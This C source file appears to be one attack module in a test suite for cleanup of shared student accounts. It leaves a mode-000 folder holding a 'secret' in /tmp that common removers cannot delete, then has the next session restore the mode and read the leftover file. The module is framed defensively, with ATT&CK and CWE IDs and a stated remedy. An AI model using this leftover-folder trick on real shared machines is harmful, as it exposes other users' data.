// SPDX-License-Identifier: MIT
/*
 * locked-folder.c - a folder that locks the cleaner out, and not the thief.
 *
 * Goal: another student's work.
 * Means: a folder of mode 000 cannot be listed, so its contents cannot be removed: rm -rf, Python's
 * rmtree, find -delete, nftw(3) and Go's RemoveAll all leave it, unless they are root. The next
 * student is the same user, owns the folder as well, and changes the mode back.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char folder[128], file[160], text[256];
	ssize_t n;
	int fd;

	snprintf(folder, sizeof(folder), "/tmp/%s", b->name);
	snprintf(file, sizeof(file), "%s/work", folder);
	attempting(b);
	if (chmod(folder, 0700))
		return denied("chmod");
	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied("open");
	n = read(fd, text, sizeof(text));
	close(fd);
	if (n < 0)
		return denied("read");
	loot(text, (size_t)n);
	return CLAIM_DONE;
}

/* Where /tmp is out of reach, the student's own folder is used: the working directory. */
static enum claim victim(const struct brief *b)
{
	int folder, file;
	char path[128];

	snprintf(path, sizeof(path), "/tmp/%s", b->name);
	if (mkdir(path, 0700)) {
		snprintf(path, sizeof(path), "%s", b->name);
		if (mkdir(path, 0700))
			return failed("mkdir");
	}
	folder = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	file = openat(folder, "work", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (file < 0 || write(file, b->secret, strlen(b->secret)) < 0)
		return failed("work");
	close(file);
	if (fchmod(folder, 0))
		return failed("chmod");
	close(folder);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student reads the last one's file",
	.means = "a folder of mode 000, which no cleaner without privilege can look into",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.quick = true,
	.id = "TMPS-03",
	.attack_id = "T1005, T1222.002, CWE-459",
	.remedy = "a cleaner that gives itself the mode back before it descends",
	.run = run,
	.victim = victim,
};
